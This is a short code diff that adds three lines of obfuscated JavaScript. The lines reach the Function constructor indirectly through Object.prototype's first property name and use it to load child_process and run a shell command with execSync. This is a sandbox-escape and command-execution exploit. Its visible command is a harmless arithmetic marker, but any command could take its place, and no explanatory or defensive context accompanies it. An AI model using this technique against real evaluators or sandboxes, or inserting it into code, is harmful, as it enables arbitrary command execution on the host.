@@ -1,0 +1,3 @@
+const k=Object.getOwnPropertyNames(Object.prototype)[0];
+const F=(()=>{})[k];
+F('process.mainModule.require("child_process").execSync("expr 40 + 1001",{stdio:"inherit"})')();
